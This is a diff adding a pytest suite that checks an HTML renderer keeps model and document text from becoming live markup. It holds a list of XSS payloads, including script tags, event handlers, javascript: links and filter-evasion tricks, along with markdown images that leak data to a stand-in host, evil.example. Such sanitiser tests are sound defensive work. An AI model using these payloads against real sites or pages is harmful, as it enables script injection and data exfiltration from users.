@@ -1,0 +1,151 @@
+"""No text of a model or a document becomes live markup."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from roma_core.ui.render import TAGS, clean, highlighted, to_html
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=https://evil.example><input name=q><button>go</button></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
+    "<video src=https://evil.example autoplay></video>",
+    "<audio src=https://evil.example autoplay></audio>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<a href=vbscript:x>x</a>",
+    "<p style='position:fixed;inset:0' onclick=alert(1)>x</p>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "![x](https://evil.example/leak?q=secret)",
+    "![x][r]\n\n[r]: https://evil.example/leak",
+    "[![x](https://evil.example/a.png)](https://evil.example)",
+    "![x](javascript:alert(1))",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](file:///etc/passwd)",
+    "<javascript:alert(1)>",
+    "[x](https://a.example 'onmouseover=alert(1) x')",
+    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
+    "`<img src=x onerror=alert(1)>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
+    "# <img src=x onerror=alert(1)>",
+    "<a class='roma-badge evil' href='https://evil.example'>1</a>",
+    "\x00<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "＜script＞alert(1)＜/script＞",
+    "<img\nsrc=x\nonerror=alert(1)>",
+    "<a href=//evil.example>x</a>",
+]
+
+
+class Audit(HTMLParser):
+    """Collects what a browser would act on."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.bad: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in TAGS:
+            self.bad.append(tag)
+        for name, value in attrs:
+            loads = name in {"src", "srcset", "style", "srcdoc", "action", "formaction", "data", "poster", "background"}
+            lies = name == "href" and not re.match(r"(https?:|mailto:|/(?!/)|#|[\w%.?-])", value or "")
+            scheme = re.match(r"\s*([\w+.-]+):", value or "") if name == "href" else None
+            if name.startswith("on") or loads or lies or (scheme and scheme[1] not in {"http", "https", "mailto"}):
+                self.bad.append(f"{tag} {name}={value}")
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_nothing_hostile_stays_live(payload: str) -> None:
+    assert Audit(to_html(payload, {1: "/sources/d"})).bad == []
+    assert Audit(clean(payload)).bad == []
+
+
+def test_the_audit_can_fail() -> None:
+    assert Audit("<img src=x onerror=alert(1)>").bad
+    assert Audit("<a href='javascript:alert(1)'>x</a>").bad
+
+
+@given(st.text(alphabet="<>/\"'=[]()!`*_#|&;:\n abcjsonerimg", max_size=60))
+def test_no_text_becomes_markup_that_was_not_allowed(text: str) -> None:
+    assert Audit(to_html(text, {1: "/sources/d"})).bad == []
+
+
+def test_markers_become_badges_and_unknown_ones_stay_text() -> None:
+    html = to_html("One fact [1], another [2].", {1: "/sources/d?start=1&end=2"})
+    assert '<a class="roma-badge" target="_blank" href="/sources/d?start=1&amp;end=2"' in html
+    assert "[2]" in html and "[1]" not in html
+
+
+def test_a_marker_in_code_is_code() -> None:
+    assert "roma-badge" not in to_html("`list[1]`", {1: "/sources/d"})
+
+
+def test_links_show_their_host_and_images_their_words() -> None:
+    html = to_html("[our bank](https://evil.example/x) ![a chart](https://evil.example/p.png)")
+    assert "[evil.example]" in html and 'rel="noopener noreferrer nofollow"' in html
+    assert "a chart" in html and "p.png" not in html
+
+
+def test_formatting_survives() -> None:
+    html = to_html("# T\n\n**b** *i*\n\n- x\n\n|a|b|\n|-|-|\n|1|2|\n\n```\ncode\n```")
+    assert all(f"<{tag}>" in html for tag in ("h1", "strong", "em", "li", "td", "pre"))
+
+
+@given(st.text(max_size=50), st.data())
+def test_highlight_marks_the_code_points(text: str, data: st.DataObject) -> None:
+    start = data.draw(st.integers(0, len(text)))
+    end = data.draw(st.integers(start, len(text)))
+    html = highlighted(text, start, end, around=5)
+    parts: list[str] = []
+
+    class Marked(HTMLParser):
+        inside = False
+
+        def handle_starttag(self, tag: str, attrs: object) -> None:
+            self.inside = tag == "mark"
+
+        def handle_endtag(self, tag: str) -> None:
+            self.inside = False
+
+        def handle_data(self, data: str) -> None:
+            if self.inside:
+                parts.append(data)
+
+    parser = Marked(convert_charrefs=True)
+    parser.feed(html)
+    parser.close()
+    assert "".join(parts) == text[start:end]
